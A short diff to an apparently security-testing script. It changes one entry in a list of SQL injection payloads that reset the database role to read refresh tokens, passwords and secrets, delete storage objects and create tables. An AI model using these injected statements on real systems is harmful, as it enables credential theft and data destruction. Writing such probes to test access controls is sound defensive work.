@@ -48,7 +48,7 @@ const attempts = [
   'reset role; select encode(token_hash, $$hex$$) as body, 1 as length, null::int as total from auth.refresh_tokens',
   'reset role; select password as body, 1 as length, null::int as total from wagday.logins',
   'reset role; select value::text as body, 1 as length, null::int as total from wagday.secrets',
-  'reset role; select recipient as body, 1 as length, null::int as total from wagday.mail_outbox',
+  'reset role; select details::text as body, 1 as length, null::int as total from wagday.jobs',
   'reset role; select notes as body, 1 as length, null::int as total from public.dogs',
   'reset role; delete from storage.objects; select null::text as body, 1 as length, null::int as total',
   'reset role; create table public.taken (id int); select null::text as body, 1 as length, null::int as total',
